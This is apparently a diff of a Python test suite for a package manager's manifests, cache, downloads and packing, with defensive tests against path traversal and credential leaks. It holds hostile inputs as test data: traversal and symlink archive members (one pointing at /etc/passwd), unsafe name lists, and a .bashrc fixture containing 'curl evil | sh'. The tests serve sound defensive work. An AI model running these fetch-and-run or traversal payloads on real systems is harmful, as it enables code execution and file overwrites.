@@ -1,4 +1,4 @@
-"""taskflow.packages: manifests, the cache, resolution, downloads and archives.
+"""taskflow.packages: manifests, the cache, resolution, downloads and packing.
 
 Downloads go to a real HTTP server on 127.0.0.1 started by the ``server``
 fixture; nothing about HTTP is mocked.  The server is scripted per test
@@ -8,8 +8,8 @@ records every request it sees, so a test can say exactly what went over the wire
 
 from __future__ import annotations
 
+import functools
 import hashlib
-import io
 import json
 import os
 import random
@@ -17,10 +17,8 @@ import re
 import socket
 import subprocess
 import sys
-import tarfile
 import textwrap
 import threading
-import zipfile
 from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 from pathlib import Path
 from urllib.parse import unquote, urlsplit
@@ -34,9 +32,9 @@ from taskflow.errors import (
     ManifestError,
     ModelNotFoundError,
     OfflineModeError,
-    UnsafeArchiveError,
+    UnknownModelError,
 )
-from taskflow.packages import Manifest, download_file, extract_archive, pack, resolve, write_package
+from taskflow.packages import Manifest, download_file, pack, resolve, write_package
 
 
 def sha256(data: bytes) -> str:
@@ -67,6 +65,9 @@ class FileServer:
         self.gate = threading.Event()  # a body is sent once this is set (tests hold a download open)
         self.gate.set()
         self.ignore_range = False
+        self.redirect: dict[str, str] = {}  # path -> URL to answer 302 with
+        self.endless: dict[str, int] = {}  # path -> bytes to stream without a Content-Length, then close
+        self.sent: dict[str, int] = {}  # path -> bytes of an endless answer written before the client hung up
         self.lock = threading.Lock()
 
     def put(self, path: str, data: bytes) -> str:
@@ -96,6 +97,15 @@ class _Handler(BaseHTTPRequestHandler):
         if path in script.status:
             self.send_error(script.status[path])
             return
+        if path in script.redirect:
+            self.send_response(302)
+            self.send_header("Location", script.redirect[path])
+            self.send_header("Content-Length", "0")
+            self.end_headers()
+            return
+        if path in script.endless:
+            self._stream_endless(script, path)
+            return
         file = script.root / path.lstrip("/")
         if not file.is_file():
             self.send_error(404)
@@ -116,6 +126,20 @@ class _Handler(BaseHTTPRequestHandler):
             self.close_connection = True  # the client sees EOF before Content-Length
         script.gate.wait(timeout=60)
         self.wfile.write(body)
+
+    def _stream_endless(self, script: FileServer, path: str):
+        self.send_response(200)
+        self.send_header("Connection", "close")   # no Content-Length: the body ends when the server closes
+        self.end_headers()
+        self.close_connection = True
+        block, sent = b"x" * (1 << 16), 0
+        try:
+            while sent < script.endless[path]:
+                self.wfile.write(block)
+                sent += len(block)
+        except (BrokenPipeError, ConnectionResetError):
+            pass
+        script.sent[path] = sent
 
     def log_message(self, *args):
         pass
@@ -334,7 +358,7 @@ def test_resolve_downloads_verifies_then_uses_the_cache(pinned, server, home, mo
     for name, data in FILES.items():
         assert package.path(name).read_bytes() == data
         assert server.count(served(name)) == 1
-    assert (package.directory / ".verified").read_text().strip() == pinned.fingerprint()
+    assert json.loads((package.directory / ".verified").read_text())["fingerprint"] == pinned.fingerprint()
     assert files_under(package.directory) == sorted([".verified", *FILES])
 
     again = resolve(TASK, MODEL, progress=False)
@@ -476,90 +500,6 @@ def test_two_processes_download_a_file_once(pinned, server, home, monkeypatch, t
     for name, data in FILES.items():
         assert server.count(served(name)) == 1
         assert (home / "taskflow" / TASK / MODEL / VERSION / name).read_bytes() == data
-
-
-# ------------------------------------------------------------------ archives
-
-def make_tar(path: Path, members: list[tarfile.TarInfo | tuple[str, bytes]]) -> Path:
-    with tarfile.open(path, "w:gz") as tf:
-        for member in members:
-            if isinstance(member, tarfile.TarInfo):
-                tf.addfile(member)
-            else:
-                name, data = member
-                info = tarfile.TarInfo(name)
-                info.size = len(data)
-                tf.addfile(info, io.BytesIO(data))
-    return path
-
-
-def make_zip(path: Path, members: list[tuple[str, bytes]]) -> Path:
-    with zipfile.ZipFile(path, "w") as zf:
-        for name, data in members:
-            zf.writestr(name, data)
-    return path
-
-
-def link(name: str, target: str, kind=tarfile.SYMTYPE) -> tarfile.TarInfo:
-    info = tarfile.TarInfo(name)
-    info.type, info.linkname = kind, target
-    return info
-
-
-@pytest.mark.parametrize(
-    "bad",
-    [
-        pytest.param(lambda tmp: ("../evil.txt", b"evil"), id="parent"),
-        pytest.param(lambda tmp: ("sub/../../evil.txt", b"evil"), id="parent-inside"),
-        pytest.param(lambda tmp: (str(tmp / "evil.txt"), b"evil"), id="absolute"),
-        pytest.param(lambda tmp: link("evil.txt", "/etc/passwd"), id="symlink"),
-        pytest.param(lambda tmp: link("evil.txt", "../outside.txt"), id="relative-symlink"),
-        pytest.param(lambda tmp: link("evil.txt", "good.txt", tarfile.LNKTYPE), id="hardlink"),
-    ],
-)
-def test_unsafe_tar_member_is_refused_and_nothing_is_written(tmp_path, bad):
-    archive = make_tar(tmp_path / "a.tar.gz", [("good.txt", b"fine"), bad(tmp_path)])
-    target = tmp_path / "out" / "target"
-    target.mkdir(parents=True)
-
-    with pytest.raises(UnsafeArchiveError):
-        extract_archive(archive, target)
-
-    assert files_under(tmp_path / "out") == []
-    assert sorted(os.listdir(tmp_path)) == ["a.tar.gz", "out"]
-
-
-@pytest.mark.parametrize("name", ["../evil.txt", "sub/../../evil.txt", "/tmp/taskflow-test-evil.txt"])
-def test_unsafe_zip_member_is_refused_and_nothing_is_written(tmp_path, name):
-    archive = make_zip(tmp_path / "a.zip", [("good.txt", b"fine"), (name, b"evil")])
-    target = tmp_path / "out" / "target"
-    target.mkdir(parents=True)
-
-    with pytest.raises(UnsafeArchiveError):
-        extract_archive(archive, target)
-
-    assert files_under(tmp_path / "out") == []
-    assert sorted(os.listdir(tmp_path)) == ["a.zip", "out"]
-    assert not Path("/tmp/taskflow-test-evil.txt").exists()
-
-
-@pytest.mark.parametrize("maker, suffix", [(make_tar, "tar.gz"), (make_zip, "zip")])
-def test_safe_archive_is_extracted(tmp_path, maker, suffix):
-    members = [("a.txt", b"alpha"), ("sub/b.bin", payload(2000)), ("sub/deeper/c.txt", "中文".encode())]
-    archive = maker(tmp_path / f"model.{suffix}", members)
-
-    written = extract_archive(archive, tmp_path / "out")
-
-    assert sorted(written) == sorted(tmp_path / "out" / name for name, _ in members)
-    for name, data in members:
-        assert (tmp_path / "out" / name).read_bytes() == data
-    assert files_under(tmp_path / "out") == sorted(name for name, _ in members)
-
-
-def test_not_an_archive_is_refused(tmp_path):
-    (tmp_path / "plain.bin").write_bytes(b"not an archive at all" * 100)
-    with pytest.raises(UnsafeArchiveError):
-        extract_archive(tmp_path / "plain.bin", tmp_path / "out")
 
 
 # ----------------------------------------------------------------- manifests
@@ -729,3 +669,272 @@ def test_pack_refuses_a_package_whose_files_were_edited(tmp_path):
     with pytest.raises(ChecksumError, match="vocab.txt"):
         pack(tmp_path / "pkg", tmp_path / "www")
     assert files_under(tmp_path / "www") == []
+
+
+# ------------------------------------------------ names that become paths (issue 27)
+
+UNSAFE_NAMES = ["/home/u", "../../..", "..", ".", "", "a/b", "a\\b", "C:evil", "x\x00y", "x\ny", ".hidden", " 1.0"]
+
+
+@pytest.mark.parametrize("field", ["task", "name", "version"])
+@pytest.mark.parametrize("value", UNSAFE_NAMES)
+def test_task_name_and_version_must_be_one_plain_name(field, value):
+    with pytest.raises(ManifestError, match=f"'{field}'"):
+        Manifest.from_dict(manifest_dict(**{field: value}))
+
+
+@pytest.mark.parametrize("version", [True, 1.5, ["1"]])
+def test_version_is_a_str_or_an_int(version):
+    with pytest.raises(ManifestError, match="'version'"):
+        Manifest.from_dict(manifest_dict(version=version))
+
+
+@pytest.mark.parametrize("name", [".bashrc", ".verified", ".ssh", "static", "C:x", "a\x00b", "a\tb"])
+def test_file_names_starting_with_a_dot_or_reserved_are_refused(name):
+    # Dot names are taskflow's own bookkeeping (.verified, temporary .NAME.tmp files) and hidden
+    # settings files (.bashrc); "static" is the export folder of a cached package.
+    with pytest.raises(ManifestError, match=re.escape(repr(name))):
+        Manifest.from_dict(manifest_dict(files={name: dict(GOOD_ENTRY)}))
+
+
+@pytest.mark.parametrize("ref", ["../../elsewhere", "/abs/pkg", "a/b/c", "./", "./.hidden", "task/..", 7])
+def test_requires_names_a_pinned_model_or_a_folder_inside(ref):
+    with pytest.raises(ManifestError, match="requires 'lexical'"):
+        Manifest.from_dict(manifest_dict(requires={"lexical": ref}))
+    assert Manifest.from_dict(manifest_dict(requires={"a": "./lexical", "b": "lexical_analysis/bigru_crf"}))
+
+
+def _hand_made_package(directory: Path, files: dict[str, bytes], **fields) -> Path:
+    """A package whose manifest is written as given, as a stranger could (write_package would refuse it)."""
+    directory.mkdir(parents=True)
+    for name, data in files.items():
+        (directory / name).write_bytes(data)
+    manifest = {"task": TASK, "name": MODEL, "version": VERSION, **fields,
+                "files": {name: {"sha256": sha256(data), "size": len(data)} for name, data in files.items()}}
+    (directory / "manifest.json").write_text(json.dumps(manifest), encoding="utf-8")
+    return directory
+
+
+@pytest.mark.parametrize("version", ["home", "../../.."])
+def test_pack_cannot_write_outside_its_destination(tmp_path, version):
+    # The proof of issue 27: a version naming a folder (absolute, or climbing out of DEST) and a .bashrc.
+    victim = tmp_path / "home"
+    victim.mkdir()
+    (victim / ".bashrc").write_text("precious")
+    version = str(victim) if version == "home" else version
+    package = _hand_made_package(tmp_path / "pkg", {".bashrc": b"curl evil | sh\n"}, version=version)
+    www = tmp_path / "a" / "b" / "www"
+    www.mkdir(parents=True)
+
+    with pytest.raises(ManifestError, match="'version'"):
+        pack(package, www)
+
+    assert (victim / ".bashrc").read_text() == "precious"
+    assert files_under(tmp_path / "a") == []
+
+
+def test_pack_refuses_a_symlink_in_its_destination(tmp_path):
+    make_package(tmp_path / "pkg")
+    outside = tmp_path / "outside"
+    outside.mkdir()
+    www = tmp_path / "www"
+    www.mkdir()
+    (www / TASK).symlink_to(outside, target_is_directory=True)   # planted in a shared folder
+
+    with pytest.raises(ManifestError, match="outside"):
+        pack(tmp_path / "pkg", www)
+
+    assert files_under(outside) == []
+
+
+@pytest.mark.parametrize("bad", ["../x", "/tmp/x", ".x", "a/b"])
+def test_cache_folders_are_built_from_plain_names_only(home, bad):
+    for parts in ((bad, MODEL, VERSION), (TASK, bad, VERSION), (TASK, MODEL, bad)):
+        with pytest.raises(ManifestError):
+            packages.cache_dir(*parts)
+    assert not home.exists()
+
+
+def test_a_model_name_that_is_a_path_is_no_pinned_model(tmp_path, home, monkeypatch):
+    """resolve(task, model) reads only manifests shipped in the bundled folder: a task or model
+    name that is a path (what `Taskflow(task, model="/any/dir/evil")` splits into) names none."""
+    bundled = tmp_path / "bundled"
+    bundled.mkdir()
+    monkeypatch.setattr(packages, "_bundled_root", lambda: bundled)
+    evil_dir = tmp_path / "any" / "dir"
+    _hand_made_package(evil_dir / "evil", {"weights.bin": b"w"}, task=str(evil_dir), name="evil")
+    make_package(bundled / TASK / "evil")   # beside the shipped ones, so ".." would find it
+
+    with pytest.raises(UnknownModelError):
+        resolve(str(evil_dir), "evil")
+    with pytest.raises(UnknownModelError):
+        resolve(TASK, "../" + TASK + "/evil")
+    assert not home.exists()
+
+
+# ------------------------------------------------ downloads: limits, warnings, credentials
+
+@pytest.fixture
+def warned(monkeypatch):
+    """A process that has warned about no endpoint yet."""
+    monkeypatch.setattr(packages, "_WARNED", set())
+
+
+@pytest.mark.network
+def test_a_larger_answer_than_pinned_is_refused_at_once(server, tmp_path):
+    data = payload(5000)
+    url = server.put("w.bin", data)
+
+    with pytest.raises(ChecksumError, match="more than the 1000 bytes") as info:
+        download_file(url, tmp_path / "dl" / "w.bin", sha256=sha256(data[:1000]), size=1000, backoff=0)
+
+    assert info.value.url == url
+    assert server.count("w.bin") == 1   # not retried: the server holds another file
+    assert files_under(tmp_path / "dl") == []
+
+
+@pytest.mark.network
+def test_an_endless_answer_is_cut_off_past_the_pinned_size(server, tmp_path):
+    server.endless["/endless.bin"] = 64 << 20   # no Content-Length; 64 MB unless the client hangs up
+
+    with pytest.raises(ChecksumError, match="more than the 100000 bytes"):
+        download_file(f"{server.url}/endless.bin", tmp_path / "dl" / "endless.bin", sha256="0" * 64, size=100_000,
+                      backoff=0, retries=4)
+
+    assert server.count("endless.bin") == 1
+    assert files_under(tmp_path / "dl") == []
+    # The client hung up after the pinned size; what the server got out is what the sockets buffered.
+    for _ in range(100):
+        if "/endless.bin" in server.sent:
+            break
+        threading.Event().wait(0.05)
+    assert server.sent["/endless.bin"] < 32 << 20
+
+
+@pytest.mark.network
+def test_plain_http_is_warned_about_once_per_endpoint(server, tmp_path, caplog, warned):
+    urls = [server.put(name, name.encode()) for name in ("a.bin", "b.bin")]
+
+    with caplog.at_level("WARNING", logger="taskflow"):
+        for url in urls:
+            download_file(url, tmp_path / "dl" / url.rsplit("/", 1)[1], sha256=sha256(url.rsplit("/", 1)[1].encode()))
+
+    said = [r.getMessage() for r in caplog.records if "plain http" in r.getMessage()]
+    assert len(said) == 1 and server.url in said[0]
+
+
+@pytest.mark.network
+def test_a_redirect_to_another_host_is_warned_about(server, tmp_path, caplog, warned):
+    data = payload(2000)
+    server.put("real.bin", data)
+    port = server.url.rsplit(":", 1)[1]
+    server.redirect["/moved.bin"] = f"http://localhost:{port}/real.bin"
+
+    with caplog.at_level("WARNING", logger="taskflow"):
+        download_file(f"{server.url}/moved.bin", tmp_path / "dl" / "x.bin", sha256=sha256(data), size=len(data))
+
+    assert (tmp_path / "dl" / "x.bin").read_bytes() == data   # the hash still decides
+    said = [r.getMessage() for r in caplog.records if "redirected" in r.getMessage()]
+    assert len(said) == 1 and f"localhost:{port}" in said[0] and "127.0.0.1" in said[0]
+
+
+SECRET = "s3cr3t-Pa55"
+
+
+@pytest.mark.network
+def test_credentials_in_the_endpoint_never_appear_in_errors_or_logs(pinned, server, home, monkeypatch, caplog, warned):
+    monkeypatch.setenv("PPNLP_ENDPOINT", server.url.replace("http://", f"http://alice:{SECRET}@"))
+    monkeypatch.setattr(packages, "download_file", functools.partial(packages.download_file, backoff=0))
+    (server.root / served("vocab.txt")).unlink()
+    messages = []
+    with caplog.at_level("WARNING", logger="taskflow"):
+        with pytest.raises(DownloadError) as info:     # an HTTP error
+            resolve(TASK, MODEL, progress=False)
+        messages += [str(info.value), info.value.url]
+        with pytest.raises(OfflineModeError) as info:  # the offline hint names the endpoint
+            resolve(TASK, MODEL, offline=True)
+        messages.append(str(info.value))
+        closed = socket.socket()
+        closed.bind(("127.0.0.1", 0))
+        port = closed.getsockname()[1]
+        closed.close()                                 # a port nobody listens on: a connection error
+        monkeypatch.setenv("PPNLP_ENDPOINT", f"http://alice:{SECRET}@127.0.0.1:{port}")
+        with pytest.raises(DownloadError) as info:
+            resolve(TASK, MODEL, progress=False)
+        messages.append(str(info.value))
+    messages += [r.getMessage() for r in caplog.records]
+
+    assert len(messages) >= 5 and "127.0.0.1" in messages[0]
+    for message in messages:
+        assert SECRET not in message and "alice:" not in message, message
+
+
+@pytest.mark.network
+def test_download_without_a_lock_locks_under_the_cache_home(server, tmp_path, home, monkeypatch):
+    shared_tmp = tmp_path / "shared_tmp"
+    shared_tmp.mkdir()
+    monkeypatch.setattr("tempfile.tempdir", str(shared_tmp))
+    url = server.put("a.bin", b"abc")
+
+    download_file(url, tmp_path / "dl" / "a.bin", sha256=sha256(b"abc"))
+
+    assert os.listdir(shared_tmp) == []
+    assert [p.suffix for p in (home / "taskflow" / ".locks").iterdir()] == [".lock"]
+
+
+def test_filelock_is_required_at_a_version_that_refuses_symlinks():
+    # filelock < 3.20.3 opened (and truncated) a symlink planted at the lock path (CVE-2025-68146,
+    # CVE-2026-22701); 3.20.3 needs Python 3.10, so Python 3.9 keeps the older floor.
+    import configparser
+
+    from packaging.requirements import Requirement
+
+    config = configparser.ConfigParser(inline_comment_prefixes=("#",))
+    config.read(Path(__file__).resolve().parents[1] / "setup.cfg", encoding="utf-8")
+    requirements = [Requirement(line) for line in config["options"]["install_requires"].splitlines() if line.strip()]
+    pins = {str(r.marker): str(r.specifier) for r in requirements if r.name == "filelock"}
+    assert pins == {'python_version >= "3.10"': ">=3.20.3", 'python_version < "3.10"': ">=3.8"}
+
+
+# ------------------------------------------------ the cache markers
+
+@pytest.mark.network
+def test_a_same_size_edit_of_a_cached_file_is_caught_though_the_marker_stays(pinned, server, home, monkeypatch):
+    monkeypatch.setenv("PPNLP_ENDPOINT", server.url)
+    package = resolve(TASK, MODEL, progress=False)
+    vocab = package.path("vocab.txt")
+    edited = bytearray(vocab.read_bytes())
+    edited[0] ^= 1
+    vocab.write_bytes(bytes(edited))                  # same size; .verified is left in place
+
+    again = resolve(TASK, MODEL, progress=False)
+
+    assert again.source == "download" and vocab.read_bytes() == FILES["vocab.txt"]
+    assert server.count(served("vocab.txt")) == 2 and server.count(served("weights.bin")) == 1
+
+
+@pytest.mark.network
+def test_an_untouched_cache_is_not_hashed_again(pinned, server, home, monkeypatch):
+    monkeypatch.setenv("PPNLP_ENDPOINT", server.url)
+    package = resolve(TASK, MODEL, progress=False)
+    past = package.directory.stat().st_mtime_ns - 10**9
+    for name in FILES:   # older than the marker, as files are once a clock tick has passed
+        os.utime(package.path(name), ns=(past, past))
+    resolve(TASK, MODEL, progress=False)              # re-hashed once: the marker did not know those times
+    hashed = []
+    monkeypatch.setattr(packages, "sha256_file", lambda path, *a: hashed.append(path) or "0" * 64)
+
+    assert resolve(TASK, MODEL, progress=False).source == "cache"
+    assert hashed == []
+
+
+def test_resolving_a_bundled_package_writes_nothing_into_the_cache(tmp_path, home, monkeypatch):
+    bundled = tmp_path / "bundled"
+    make_package(bundled / TASK / MODEL)
+    monkeypatch.setattr(packages, "_bundled_root", lambda: bundled)
+    monkeypatch.setattr(packages, "_VERIFIED_BUNDLES", set())
+
+    assert resolve(TASK, MODEL).source == "bundled"
+    assert resolve(TASK, MODEL).source == "bundled"
+
+    assert not home.exists()
